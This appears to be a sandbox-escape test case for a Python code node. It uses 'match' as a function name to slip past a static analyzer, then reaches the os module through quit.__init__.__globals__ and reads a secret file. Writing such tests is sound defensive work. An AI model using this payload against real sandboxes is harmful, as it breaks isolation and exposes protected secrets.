# class: parser differentials
# technique: match as the name of a function
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
def match(x):
    return x
g = match (quit.__init__.__globals__)
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
